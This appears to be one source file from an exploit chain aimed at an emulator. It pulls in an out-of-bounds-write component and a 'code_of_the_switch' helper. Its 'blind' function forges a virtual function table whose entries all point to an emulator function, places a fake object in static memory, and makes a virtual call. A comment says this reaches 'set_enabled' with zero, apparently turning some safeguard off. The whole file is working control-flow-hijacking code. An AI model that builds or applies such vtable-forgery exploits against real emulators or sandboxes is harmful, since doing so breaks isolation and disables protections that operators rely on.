// Makes an object with a forged table of virtual functions, which contains a function of the emulator.
#include <cstring>

#include "../parts/writes_out_of_bounds.cu"
#include "../parts/code_of_the_switch.cu"

struct Object {
  virtual void call();
  long rest[31];
};
void Object::call() {}

// set_enabled takes the lowest byte of the first argument, which is the object's address: 0.
void blind() {
  alignas(256) static char room[sizeof(Object)];
  static unsigned long table[4];
  for (unsigned long& entry : table) entry = code_of_the_switch();
  const unsigned long* const at = table;
  std::memcpy(room, &at, sizeof at);
  Object* volatile object = reinterpret_cast<Object*>(room);
  object->call();
}
